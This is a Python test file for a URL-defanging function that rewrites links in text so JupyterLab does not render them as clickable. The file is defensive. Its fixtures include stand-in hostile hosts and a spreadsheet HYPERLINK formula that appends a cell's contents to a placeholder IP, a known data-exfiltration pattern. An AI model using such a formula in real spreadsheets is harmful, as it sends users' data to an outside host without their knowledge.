import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.laws import often
from workbench.base.text.links import unlinked


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see https://evil.example/a.b now", "see hxxps://evil.example/a.b now"),
        ("HTTP://EVIL.EXAMPLE and www.evil.example", "HxxP://EVIL.EXAMPLE and www[.]evil.example"),
        ('=HYPERLINK("http://198.51.100.9/?"&A1)', '=HYPERLINK("hxxp://198.51.100.9/?"&A1)'),
        ("Notes: v1.2 of the report.", "Notes: v1.2 of the report."),
        ("_https://evil.example 1http://x éhttps://y", "_hxxps://evil.example 1hxxp://x éhxxps://y"),
        ("xwww.evil.example", "xwww[.]evil.example"),
        ("ftp://x file://x/y ms-word://x", "ftp[:]//x file[:]//x/y ms-word[:]//x"),
        ("data:text/html,x metadata:y the data: these", "data[:]text/html,x metadata[:]y the data: these"),
    ],
)
def test_urls_in_text_become_no_links_and_the_rest_stays(text: str, shown: str) -> None:
    assert unlinked(text) == shown


JUPYTERLAB = re.compile(
    r"(?:[a-zA-Z][a-zA-Z0-9+.-]{2,40}://|data:|www\.)[^\s\u0000-\u0020\u007f-\u009f\"]{2,}"
    r"[^\s\u0000-\u0020\u007f-\u009f\"'(){}\[\],:;.!?]"
)
"""What JupyterLab 4 makes a link of (``webLinkRegex`` of its rendermime)."""
PIECES = st.sampled_from(
    ["http", "https", "hxxp", "data", "www", ":", "//", ".", "ftp", "a", "_", "1", "é", " ", "x.example", "[:]"]
)
TEXTS = st.text() | st.lists(PIECES, max_size=12).map("".join)


@given(TEXTS)
def test_text_once_unlinked_stays_so(text: str) -> None:
    assert unlinked(unlinked(text)) == unlinked(text)


@settings(max_examples=often(300))
@given(TEXTS)
def test_jupyterlab_finds_nothing_in_it_that_opens(text: str) -> None:
    assert all("hxxp" in link[0].lower().partition("://")[0] for link in JUPYTERLAB.finditer(unlinked(text)))
